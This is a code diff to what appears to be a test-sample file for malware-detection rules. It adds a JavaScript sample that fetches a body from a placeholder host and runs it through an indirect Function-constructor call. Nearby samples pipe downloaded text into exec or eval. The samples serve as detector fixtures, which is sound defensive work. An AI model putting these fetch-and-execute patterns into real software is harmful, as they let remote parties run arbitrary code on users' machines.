@@ -4,11 +4,12 @@ A sample is (files, verdict, where): the files by name, the verdict the rule mus
 Written from public descriptions, never from malware; `test_samples_are_inert` holds them to it.
 """
 
-from inspection.rules import targeting
+from inspection.rules import starting, targeting
 from inspection.rules.sample import PICKLE_PRINT, QUIET, Sample, js, package, py, task
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     **targeting.HOSTILE,
+    **starting.HOSTILE,
     "remote_code": {
         "a body goes to exec": py("import requests\nexec(requests.get('https://a.invalid').text)\n"),
         "by an alias and a helper": py(
@@ -61,6 +62,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "an error's body goes to the Function constructor": js(
             "const axios = require('axios');\naxios.get('https://a.invalid').catch(err => {\n"
             "  const f = new Function.constructor('require', err.response.data); f(require); });\n",
+            line=3,
+        ),
+        "the constructor's bind, applied": js(
+            "const axios = require('axios');\naxios.get('https://a.invalid').then(r =>\n"
+            "  new (Function.bind.apply(Function, [null, 'require', r.data]))()(require));\n",
             line=3,
         ),
         "await, then eval": js(
